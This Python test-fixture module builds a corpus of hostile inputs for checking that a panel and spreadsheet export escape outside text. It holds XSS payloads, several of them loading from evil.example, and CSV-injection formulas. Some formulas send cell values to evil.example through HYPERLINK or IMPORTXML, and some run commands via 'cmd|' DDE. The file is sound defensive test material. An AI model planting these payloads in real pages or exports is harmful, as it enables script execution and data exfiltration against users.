"""The hostile corpus: outside text that has broken panels and spreadsheets like this one.

Every value is something a marketplace, an ERP or a customer could send: markup and
script (XSS cheat sheets: OWASP's, PortSwigger's), spreadsheet formulas (OWASP "CSV
Injection"), control characters, a text far over every limit, right-to-left overrides,
emoji sequences and script URLs. Tests write it into every text field of every tab and
assert what a reader would notice: nothing runs, nothing is reordered, nothing breaks.

`CORPUS` is the whole list; the named groups let a test pick one kind. `fit(text, n)`
cuts a value to a field's limit (what a connector does before it writes).
"""

from __future__ import annotations

#: Markup and script that a page showing outside text unescaped would run (≥ 50).
XSS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img/src/onerror=alert(1)>",
    '"><img src=x onerror=alert(2)>',
    "'\"><img src=x onerror=alert(3)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">kliknij</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="http://evil.example/">',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1)>kliknij</x>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{7*7}}{% debug %}${7*7}",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
)

#: Texts a spreadsheet reads as a formula (OWASP "CSV Injection"), also after a `,` or `;` separator.
FORMULAS: tuple[str, ...] = (
    "=1+1",
    "+48 600 700 800",
    "+48600700800",
    "-2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "x;=2+3;y",
    "a,=1,b",
    'x;"=2+3";y',
    "x; =2+3",
    "x\n=2+3",
    '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")',
    "=cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '"=1+1"',
    "=1+1;=2+2,=3+3\t=4+4",
)

#: Control characters: every C0 but NUL (the writer's own rule replaces NUL), DEL, every C1, and Unicode separators.
CONTROLS: tuple[str, ...] = (
    "C0: " + "".join(chr(c) for c in range(1, 32)) + " :end",
    "DEL \x7f C1: " + "".join(chr(c) for c in range(0x80, 0xA0)) + " :end",
    "line\u2028separator\u2029paragraph",
    "\ufeffbyte order mark and \ufffe noncharacter",
    "zero\u200bwidth\u200cjoiners\u200d and\u2060word joiner",
    "vertical\x0btab\x0cform feed",
)

#: Over every limit of a text field (messages: 4,000 characters; data: 32 KB).
LONG = "Zażółć gęślą jaźń <b>x</b> =1+1; " * 1212 + "end!"  # 40,000 characters

#: Right-to-left text and overrides: `\u202e` makes "evil.exe" read "exe.live".
RTL: tuple[str, ...] = (
    "\u202eevil.exe",
    "faktura\u202egpj.exe",
    "\u202dLTR override\u202c and \u202bembedding",
    "\u2067isolate without its end",
    "שלום עולם",
    "مرحبا بالعالم 123",
    "\u200fright-to-left mark",
)

#: Emoji sequences (ZWJ families, flags, skin tones) and combining marks.
EMOJI: tuple[str, ...] = (
    "👩‍👩‍👧‍👦 rodzina",
    "🏳️‍🌈 🇵🇱 flagi",
    "👍🏽 ton skóry",
    "Z\u0301dz\u0301bło (combining)",
    "𝕳𝖊𝖑𝖑𝖔 \U0001f600" * 8,
    "Z̸̡̢̛̗̘̙̜̝̞̟̠̀́̂̃̄̅̆̇̈̉̊̋̌̍̎̏̐̑̒̓̔̽̾̿̀́͂̓̈́͆͊͋͌ͅ͏͓͔͕͖͙͚͐͑͒͗͛ͣͤͥͦͧͨͩͪͫͬͭͮͯ͘͜͟͢͝͞͠͡algo",
)

#: Script and data URLs a page must never make a link of.
URLS: tuple[str, ...] = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
)

CORPUS: tuple[str, ...] = XSS + FORMULAS + CONTROLS + (LONG,) + RTL + EMOJI + URLS


def fit(text: str, limit: int) -> str:
    """`text` cut to `limit` characters (a field's `max_length`), never empty or blank."""
    return text[:limit] if text[:limit].strip() else "x" + text[: limit - 1]
